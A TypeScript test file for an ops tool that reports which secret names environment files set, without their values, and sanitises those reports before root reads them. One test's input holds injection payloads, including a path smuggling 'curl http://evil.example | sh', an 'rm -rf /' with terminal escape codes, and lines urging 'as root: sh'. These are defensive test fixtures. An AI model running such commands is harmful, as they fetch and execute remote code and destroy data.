/** What an environment file says about secrets, read by its owner and told to root. */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  ACCOUNT_COMMANDS,
  type FileFacts,
  parseFileFacts,
  readFileFacts,
} from "../../lib/secret/file-facts.ts";

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "opsctl-facts-"));
});
afterEach(() => rmSync(folder, { recursive: true }));

const put = (name: string, text: string, mode = 0o600) => writeFileSync(join(folder, name), text, { mode });

describe("readFileFacts()", () => {
  test("names what is set, and never a value", () => {
    put(
      "weekly.env",
      "DATABASE_URL=postgres://a:canary@h/d\nTRIGGER_SECRET=\nOPSCTL_SECRETS_DIR=/srv/secrets\n" +
        "OPSCTL_ALERT_WEBHOOK=http://127.0.0.1:9300/webhook\nSOCIAL_EDITORIALS_ENABLED=yes\n",
    );
    put("webhook.env", "MESSAGING_API_KEY='canary'\nOPSCTL_SECRETS_COMMAND=/bin/canary\n");
    const facts = readFileFacts(ACCOUNT_COMMANDS, folder);
    expect(facts).toEqual([
      {
        ...{ name: "weekly.env", path: join(folder, "weekly.env"), secrets: ["DATABASE_URL"] },
        ...{
          wanted: ["WEBHOOK_SECRET"],
          secretsDir: "/srv/secrets",
          hasCommand: false,
          problem: null,
          isClosed: false,
        },
      },
      {
        ...{ name: "webhook.env", path: join(folder, "webhook.env"), secrets: ["MESSAGING_API_KEY"] },
        ...{ wanted: [], secretsDir: null, hasCommand: true, problem: null, isClosed: false },
      },
    ]);
    expect(JSON.stringify(facts)).not.toContain("canary");
    expect(parseFileFacts(JSON.stringify(facts), folder)).toEqual(facts);
  });

  test("asks for the editorial secret only when its exact switch is on", () => {
    put("weekly.env", "SOCIAL_EDITORIALS_ENABLED=1\n");
    expect(readFileFacts(["weekly"], folder)[0]?.wanted).toEqual(["SOCIAL_EDITORIALS_CRON_SECRET"]);
  });

  test("says why a file could not be read", () => {
    put("weekly.env", "DATABASE_URL=x\n", 0o644);
    put("webhook.env", "export WEBHOOK_SECRET=canary\n\ncanary\n");
    const facts = readFileFacts(ACCOUNT_COMMANDS, folder);
    expect(facts.map(({ name, problem }) => [name, problem])).toEqual([
      ["weekly.env", "SECRET_FILE_EXPOSED"],
      ["webhook.env", "ENV_FILE_INVALID"],
    ]);
    expect(JSON.stringify(facts)).not.toContain("canary");
  });
});

describe("parseFileFacts()", () => {
  const honest: FileFacts = {
    ...{ name: "weekly.env", path: "/etc/opsctl/weekly.env", secrets: ["DATABASE_URL"], wanted: [] },
    ...{ secretsDir: null, hasCommand: false, problem: null, isClosed: false },
  };

  test.each(["", "{}", "null", "[", '"weekly.env"'])("takes %j for nothing", (text) => {
    expect(parseFileFacts(text, "/etc/opsctl")).toBeNull();
  });

  test("keeps what root may believe: names that it knows, and nothing in which there is room for a command", () => {
    const lies = [
      { ...honest, secrets: ["DATABASE_URL", "\u001b[2J", 7], secretsDir: "/srv\u001b[31m\n-> rm -rf /" },
      { ...honest, name: "collect-metrics.env" },
      { ...honest, path: "/x; curl http://evil.example | sh", problem: "ENV_FILE_INVALID" },
      { ...honest, secretsDir: "relative", problem: "X\u0007", reason: "as root: sh /srv/x" },
      { ...honest, secretsDir: "/x. So that it counts, as root: sh /srv/x" },
      null,
    ];
    expect(parseFileFacts(JSON.stringify(lies), "/etc/opsctl")).toEqual([
      { ...honest, secretsDir: "/srv??31m?-??rm?-rf?/" },
      { ...honest, problem: "ENV_FILE_INVALID" },
      { ...honest, problem: "INTERNAL_ERROR" },
      { ...honest, secretsDir: "/x.?So?that?it?counts,?as?root:?sh?/srv/x" },
    ]);
  });
});
